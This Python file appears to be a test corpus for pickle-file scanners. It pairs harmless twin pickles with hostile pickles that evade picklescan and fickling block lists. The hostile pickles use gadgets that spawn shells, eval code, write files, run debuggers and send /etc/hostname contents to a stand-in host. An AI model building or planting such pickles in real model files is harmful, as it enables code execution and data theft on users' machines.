"""Pickles: the calls that picklescan's and fickling's lists left out, and resolvers beside them."""

from __future__ import annotations

from assembly import Raw, build, call, dot, glob, model, new, old, pickle, seq, tup, val
from eighth.kit import HOST, wicked
from pair import CODE, SHELL


def add(out):
    def one(name, hostile, twin, why="", prove="pickle", file="model.pkl"):
        out.add("pickle", name, hostile, twin, prove, file, why)

    bag = new(glob("argparse", "Namespace"))
    one(
        "transport_starts_a_process",
        wicked(dot("asyncio.unix_events", "_UnixSubprocessTransport._start"), bag, SHELL, True, None, None, None, 0),
        pickle(model(build(bag, {"args": SHELL, "shell": True, "stdin": None, "bufsize": 0}))),
        "CVE-2025-10157: a private method below a module whose parent alone was listed",
    )
    one(
        "fortran_coefficients",
        wicked(glob("numpy.f2py.crackfortran", "getlincoef"), f"__import__('os').system('{SHELL}')", {}),
        pickle(model(build(call(glob("numpy", "dtype"), "f8", False, True), (3, "<", None, None, None, -1, -1, 0)))),
        "GHSA: getlincoef evaluates its first argument",
    )
    one(
        "tracer_runs_a_line",
        wicked(dot("trace", "Trace.run"), call(glob("trace", "Trace"), 0, 0), CODE),
        pickle(model(call(glob("fractions", "Fraction"), 3, 7))),
        "GHSA: trace.Trace.run",
    )
    one(
        "build_helper_writes_a_file",
        wicked(glob("distutils.file_util", "write_file"), "marker", ["* * * * * id"]),
        pickle(model(call(glob("pathlib", "PurePosixPath"), "runs", "marker"))),
        "GHSA: an arbitrary file is written with distutils.file_util.write_file",
    )
    one(
        "log_handler_makes_a_file",
        wicked(glob("logging", "FileHandler"), "marker", "w"),
        pickle(model(call(glob("logging", "getLogger"), "marker"))),
        "GHSA: the constructor of a log handler truncates a file; loggers themselves are pickled by getLogger",
    )
    line = call(glob("linecache", "getline"), "/etc/hostname", 1)
    one(
        "certificate_request_carries_a_line",
        wicked(glob("ssl", "get_server_certificate"), tup(call(glob("operator", "concat"), line, f".{HOST}"), 443)),
        pickle(model(call(glob("datetime", "timedelta"), 3, 443))),
        "GHSA: a line of a file leaves by a name look-up",
        "pickle.offline",
    )
    one(
        "identifier_module_runs_commands",
        wicked(glob("uuid", "_get_command_stdout"), "touch", "marker"),
        pickle(model(build(new(glob("uuid", "UUID")), {"int": 0x7A3F}))),
        "GHSA: uuid._get_command_stdout; a UUID itself is an ordinary pickle",
    )
    one(
        "name_of_python_two",
        b"\x80\x02" + model(call(old("commands", "getoutput"), SHELL)) + b".",
        b"\x80\x02" + model(call(old("__builtin__", "bytearray"), SHELL, "ascii")) + b".",
        "protocol 2 maps the module commands to subprocess",
    )
    one(
        "number_parser_calls_a_name",
        wicked(glob("locale", "atof"), SHELL, call(glob("logging.config", "_resolve"), "posix.system")),
        pickle(model(call(glob("decimal", "Decimal"), "0.125"))),
        "a resolver of dotted names, and a parser that calls what it is given",
    )
    one(
        "path_grows_then_a_sibling_is_imported",
        {
            "model.pkl": pickle(model(seq(call(dot("sys", "path.append"), "."), glob("layers_ext", "scale")))),
            "layers_ext.py": f"scale = 1\n{CODE}\n",
        },
        {
            "model.pkl": pickle(model(seq(call(glob("collections", "Counter"), "."), glob("math", "pi")))),
            "layers_ext.py": "scale = 1\n\n\ndef scaled(x):\n    return x * scale\n",
        },
        "the module that lies beside the pickle is code the pickle runs",
    )
    one(
        "finalizer_at_exit",
        wicked(glob("weakref", "finalize"), glob("fractions", "Fraction"), glob("pty", "spawn"), ["touch", "marker"]),
        pickle(model(call(glob("functools", "partial"), glob("fractions", "Fraction"), 3))),
        "CVE-2025-67748 (pty), called only when the interpreter ends",
    )
    inner = pickle(call(glob("bdb", "Bdb.run"), call(glob("bdb", "Bdb")), CODE))
    one(
        "grammar_tables_load_a_pickle",
        wicked(dot("lib2to3.pgen2.grammar", "Grammar.loads"), call(glob("lib2to3.pgen2.grammar", "Grammar")), inner),
        pickle(model(Raw(val({"grammar": b"\x80\x04}\x94."})))),
        "GHSA: Grammar.loads is pickle.loads; the second stage runs a debugger",
    )
